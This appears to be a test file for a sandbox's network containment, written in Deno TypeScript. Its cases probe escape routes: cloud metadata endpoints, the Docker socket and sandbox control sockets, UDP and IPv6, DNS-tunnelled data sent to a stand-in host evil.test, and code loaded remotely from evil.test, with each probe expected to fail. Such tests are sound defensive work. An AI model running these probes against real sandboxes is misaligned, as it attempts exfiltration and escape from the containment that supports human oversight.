// Other roads out than the proxy.

// expected: no way out
// judge: verdicts()

// name: other TCP ports of an API's host
for (const port of [22, 25, 53, 8080, 8443, 9000, 6443, 2375]) {
  try {
    const x = await Promise.race([
      Deno.connect({ hostname: "httpbin.test", port }),
      new Promise<never>((_, no) => setTimeout(() => no(new Error("silence")), 1500)),
    ]);
    await x.write(new TextEncoder().encode("TRIAL\n"));
    const b = new Uint8Array(10);
    const n = await Promise.race([x.read(b), new Promise<null>((d) => setTimeout(() => d(null), 500))]);
    x.close();
    out({ held: port === 53 || n === null, seen: port + " answered " + n });
  } catch (e) {
    out({ held: true, seen: port + " " + e.name });
  }
}

// name: TCP to addresses outside
await attempts(
  () => Deno.connect({ hostname: "93.184.215.14", port: 443 }),
  () => Deno.connect({ hostname: "10.99.0.10", port: 80 }),
  () => Deno.connect({ hostname: "169.254.169.254", port: 80 }),
  () => Deno.connect({ hostname: "8.8.8.8", port: 53 }),
  () => fetch("http://169.254.169.254/latest/meta-data/"),
  () => fetch("http://metadata.google.internal/"),
);

// name: the proxy, mcp-server and the host by address
await attempts(
  () => Deno.connect({ hostname: "10.77.0.2", port: 80 }),
  () => Deno.connect({ hostname: "10.77.0.1", port: 22 }),
  () => Deno.connect({ hostname: "10.77.0.3", port: 80 }),
  () => Deno.connect({ hostname: "127.0.0.1", port: 8080 }),
  () => Deno.connect({ hostname: "localhost", port: 8080 }),
  () => fetch("http://mcp-server:8080/mcp"),
  () => fetch("http://proxy/"),
  () => fetch("http://host.docker.internal/"),
  () => fetch("http://gateway.docker.internal/"),
);

// name: IPv6
await attempts(
  () => Deno.connect({ hostname: "::1", port: 443 }),
  () => Deno.connect({ hostname: "2606:4700:4700::1111", port: 443 }),
  () => fetch("https://[2606:4700:4700::1111]/"),
  () => Deno.connect({ hostname: "fe80::1", port: 80 }),
);

// name: UDP and QUIC
import dgram from "node:dgram";
for (const to of ["10.99.0.10", "93.184.215.14", "8.8.8.8"]) {
  try {
    const s = dgram.createSocket("udp4");
    await new Promise((ok, no) => {
      s.on("error", no);
      s.on("message", () => no(null));
      s.send("TRIAL", 443, to, (e) => e ? no(e) : setTimeout(ok, 300));
    });
    s.close();
    out({ held: true, seen: "sent into nothing" });
  } catch (e) {
    out({ held: e !== null, seen: e === null ? to + " answered" : String(e.name) });
  }
}

// name: listening for others
await attempts(
  () => Deno.listen({ hostname: "0.0.0.0", port: 443 }),
  () => Deno.listen({ hostname: "0.0.0.0", port: 18080 }),
  () => Deno.listen({ hostname: "127.0.0.1", port: 18081 }),
  () => Deno.serve({ port: 18082 }, () => new Response("x")),
);

// name: unix sockets, abstract ones too
await attempts(
  () => Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }),
  () => Deno.connect({ transport: "unix", path: "/run/sandboxd/sandboxd.sock" }),
  () => Deno.connect({ transport: "unix", path: "/dev/shm/run/control.sock" }),
  () => Deno.listen({ transport: "unix", path: "/tmp/TRIAL.sock" }),
  () => Deno.connect({ transport: "unix", path: "\0codeforge" }),
  () =>
    new Promise((ok, no) =>
      import("node:net").then((n) =>
        n.connect("/dev/shm/run/sandboxd.sock").on("connect", () => ok("connected")).on("error", no)
      )
    ),
);

// name: data in DNS names
// expected: never forwarded
// judge: unasked
for (const name of ["TRIAL.evil.test", "TRIAL.example.com", "TRIAL.httpbin.test", "a.TRIAL.wild.test", "TRIAL"]) {
  await show((async () => await fetch("https://" + name + "/"))());
}

// name: data in DNS questions of other types
// expected: never forwarded
// judge: unasked
for (const type of ["A", "AAAA", "TXT", "MX", "SRV", "CNAME", "NS", "CAA", "PTR"] as const) {
  try {
    out({ status: 1, text: JSON.stringify(await Deno.resolveDns("TRIAL.evil.test", type)) });
  } catch (e) {
    why(e);
  }
}

// name: DNS over TCP and to chosen servers
// expected: never forwarded
// judge: unasked
import dns from "node:dns";
{
  for (const ipAddr of ["8.8.8.8", "127.0.0.11", "10.77.0.2", "10.99.0.10", "127.0.0.1"]) {
    try {
      out({
        status: 1,
        text: JSON.stringify(await Deno.resolveDns("TRIAL.evil.test", "TXT", { nameServer: { ipAddr, port: 53 } })),
      });
    } catch (e) {
      why(e);
    }
  }
  const r = new dns.promises.Resolver();
  r.setServers(["127.0.0.11"]);
  try {
    await r.resolveTxt("TRIAL.evil.test");
  } catch (e) {
    why(e);
  }
}

// name: DoH to an API's host
// expected: only that API, as any request
// judge: unasked
await show(fetch("https://httpbin.test/dns-query?t=x&name=TRIAL.evil.test"));

// name: imports from afar
// judge: unasked
for (
  const url of [
    "https://evil.test/TRIAL.js",
    "https://httpbin.test/anything/TRIAL.js",
    "npm:left-pad-TRIAL",
    "jsr:@std/TRIAL",
    "http://evil.test/TRIAL.ts",
  ]
) {
  try {
    const m = await import(url);
    out({ status: 200, text: JSON.stringify(m) });
  } catch (e) {
    why(e);
  }
}

// name: a worker from afar
// judge: unasked
for (const url of ["https://evil.test/TRIAL.js", "https://httpbin.test/anything/TRIAL.js"]) {
  try {
    const w = new Worker(url, { type: "module" });
    await new Promise<void>((ok, no) => {
      w.onmessage = () => ok();
      w.onerror = (e) => {
        e.preventDefault();
        no(new Error(e.message));
      };
      setTimeout(() => no(new Error("silence")), 1500);
    });
    out({ status: 200 });
  } catch (e) {
    why(e);
  }
}

// name: WebAssembly, EventSource and WebSocket from afar
// judge: unasked
await show((async () => await WebAssembly.compileStreaming(fetch("https://evil.test/TRIAL.wasm")))());
await new Promise<void>((d) => {
  try {
    const s = new WebSocket("wss://evil.test/TRIAL");
    s.onerror = (e) => {
      why(e);
      d();
    };
    s.onopen = () => {
      out({ status: 200 });
      d();
    };
  } catch (e) {
    why(e);
    d();
  }
});
